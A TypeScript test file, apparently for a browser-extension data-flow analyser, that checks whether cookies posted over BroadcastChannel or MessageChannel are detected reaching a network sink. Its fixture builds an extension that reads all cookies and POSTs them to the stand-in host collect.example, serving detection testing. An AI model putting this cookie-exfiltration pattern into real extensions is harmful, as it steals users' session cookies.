import { expect, test } from 'vitest';
import { flowsOf } from '../extension/flowsOf.ts';
import { factsOf } from '../testing/examples.ts';
import { sample } from '../testing/sample.ts';

/** Whether cookies that are posted in the background are sent by what hears it in another script of it. */
async function isHeard(post: string, hear: string): Promise<boolean> {
  const send = "({ data }) => fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(data) })";
  const facts = await factsOf(
    sample({
      background: `chrome.cookies.getAll({}, (all) => { ${post} });`,
      popup: hear.replace('HEAR', send),
      manifest: { permissions: ['cookies'], host_permissions: ['<all_urls>'] },
    }),
  );
  return facts.whole(flowsOf).flows.some(({ sink }) => sink.kind === 'network');
}

const NAMED = "new BroadcastChannel('all')";
const PORTS = 'new MessageChannel()';

test.each([
  [true, `${NAMED}.postMessage(all);`, `${NAMED}.onmessage = HEAR;`],
  [true, `new BroadcastChannel(self.name).postMessage(all);`, `${NAMED}.onmessage = HEAR;`],
  [false, `new BroadcastChannel('other').postMessage(all);`, `${NAMED}.onmessage = HEAR;`],
  [true, `const ways = ${PORTS}; ways.port1.postMessage(all);`, `const ways = ${PORTS}; ways.port2.onmessage = HEAR;`],
  [false, `const ways = ${PORTS}; ways.port1.postMessage(all);`, `new BroadcastChannel(self.name).onmessage = HEAR;`],
  [false, `new BroadcastChannel(self.name).postMessage(all);`, `const ways = ${PORTS}; ways.port2.onmessage = HEAR;`],
])('it is %j that what is posted by `%s` is heard by `%s`', async (isIt, post, hear) => {
  await expect(isHeard(post, hear)).resolves.toBe(isIt);
});
